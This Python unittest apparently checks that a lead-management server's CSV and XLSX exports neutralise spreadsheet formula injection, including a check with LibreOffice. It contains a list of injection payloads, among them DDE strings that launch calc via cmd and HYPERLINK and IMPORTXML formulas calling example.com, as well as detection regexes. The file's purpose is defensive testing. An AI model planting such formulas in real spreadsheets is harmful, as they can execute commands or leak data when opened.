#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Texts that a spreadsheet would run, through every file that the server gives (reliability.md S1): none is live, and the file
brings the texts back as they were when it is imported again. Where LibreOffice is installed, it opens the files, too.
"""
import csv
import io
import json
import re
import shutil
import subprocess
import sys
import time
import unittest
import xml.etree.ElementTree as ElementTree
import zipfile

from signed_in import SignedInTest

PAYLOADS = [
    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://example.com?x=\"&A1;\"see\")", "=IMPORTXML(\"http://example.com\";\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
    "=1+1\";=2+2", "+1+1", "+cmd|' /C calc'!A0", "+49 30 123456", "-1+1", "-cmd|' /C calc'!A0", "-5", "-1.234,50", "@SUM(1+1)", "@import", "\t=1+1", "\r=1+1",
    "\n=1+1", "'=1+1", "''=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", " =1+1", "%0A=1+1",
]
# A number is no formula: "-5" and "+49 30 123456" stay as they are.
LIVE = re.compile(r"^[=+\-@\t\r\n]")
HARMLESS = re.compile(r"^[+-]?[0-9][0-9 .,]*$")
SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def csv_of(rows):
    stream = io.StringIO()
    csv.writer(stream, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows(rows)
    return stream.getvalue().encode()


class Formulas(SignedInTest):
    def import_file(self, content, name="a.csv"):
        status, _head, answer = self.upload(name, content)
        self.assertEqual(status, 201, answer)
        draft = self.json_of("POST", "/imports", {"upload": json.loads(answer)["id"]}, 201)
        path = f"/imports/{draft['id']}"
        self.json_of("POST", path + "/start", {"version": draft["version"]}, 202)
        for _ in range(600):
            record = self.json_of("GET", path)
            if record["state"].startswith(("completed", "failed")):
                return path, record
            time.sleep(0.1)
        self.fail("the import did not end")

    def bytes_of(self, path):
        status, _head, body = self.ask("GET", path)
        self.assertEqual(status, 200, f"{path}: {body[:300]!r}")
        return body

    def check_csv(self, content, where):
        cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row]
        for cell in cells:
            self.assertFalse(LIVE.match(cell) and not HARMLESS.match(cell), f"{cell!r} is live in {where}")
        return cells

    def check_workbook(self, content, where):
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            for name in archive.namelist():
                if not name.startswith("xl/worksheets/"):
                    continue
                for cell in ElementTree.fromstring(archive.read(name)).iter(SHEET + "c"):
                    self.assertIsNone(cell.find(SHEET + "f"), f"a formula in {where}")
                    is_text = cell.get("t") in ("s", "inlineStr")
                    self.assertTrue(is_text or cell.find(SHEET + "v") is None or HARMLESS.match(cell.find(SHEET + "v").text), where)

    def open_with_libreoffice(self, files):
        if shutil.which("soffice") is None:
            print("SKIPPED: LibreOffice is missing, so it opened none of the files", file=sys.stderr)
            return
        folder = self.folder / "opened"
        folder.mkdir()
        for name, content in files.items():
            (folder / name).write_bytes(content)
        subprocess.run(["soffice", "-env:UserInstallation=file://" + str(self.folder / "office"), "--headless", "--convert-to", "fods:OpenDocument Spreadsheet Flat XML",
                        "--outdir", str(folder / "out"), *(str(folder / name) for name in files)], check=True, capture_output=True, timeout=500)
        for name in files:
            text = (folder / "out" / (name.rsplit(".", 1)[0] + ".fods")).read_text(encoding="utf-8")
            self.assertIn("table:table-cell", text, name)
            self.assertNotIn("table:formula", text, f"LibreOffice found a formula in {name}")

    def test_are_texts_everywhere_and_come_back(self):
        self.start_server()
        good = [[f"Good {number}", f"good{number}@example.com", text] for number, text in enumerate(PAYLOADS)]
        bad = [[f"Bad {number}", "no address", text] for number, text in enumerate(PAYLOADS)]
        path, record = self.import_file(csv_of([["Last Name", "Email", "Company"], *good, *bad]))
        self.assertEqual(record["tally"]["failed"], len(PAYLOADS), record["tally"])
        stored = {lead["values"]["last_name"]: lead["values"].get("company") for lead in self.json_of("GET", "/leads?limit=100")["leads"]}
        self.assertEqual(len(stored), len(PAYLOADS))

        files = {
            "failed.csv": self.bytes_of(path + "/failed.csv"), "failed.xlsx": self.bytes_of(path + "/failed.xlsx"),
            "receipt.csv": self.bytes_of(path + "/receipt.csv"), "leads.csv": self.bytes_of("/leads.csv"),
        }
        for name, content in files.items():
            (self.check_workbook if name.endswith("xlsx") else self.check_csv)(content, name)
        self.open_with_libreoffice(files)

        # What was wrong is mended in the file that the server gave, and all texts come in as they first were.
        for name in ("failed.csv", "failed.xlsx"):
            number = self.json_of("GET", "/leads")["total"]
            content = files[name]
            if name == "failed.csv":
                content = content.replace(b"no address", b"")
                _path, record = self.import_file(content, name)
            else:
                content = self.with_workbook_texts(content, "no address", "")
                _path, record = self.import_file(content, name)
            self.assertEqual(record["tally"]["created"], len(PAYLOADS), (name, record["tally"]))
            leads = self.json_of("GET", "/leads?limit=200&sort=-id")["leads"][:len(PAYLOADS)]
            back = {lead["values"]["last_name"].replace("Bad", "Good"): lead["values"].get("company") for lead in leads}
            self.assertEqual(back, stored, name)
            self.assertEqual(self.json_of("GET", "/leads")["total"], number + len(PAYLOADS))

    @staticmethod
    def with_workbook_texts(content, old, new):
        made = io.BytesIO()
        with zipfile.ZipFile(io.BytesIO(content)) as archive, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as copy:
            for name in archive.namelist():
                copy.writestr(name, archive.read(name).replace(old.encode(), new.encode()))
        return made.getvalue()


if __name__ == "__main__":
    unittest.main()
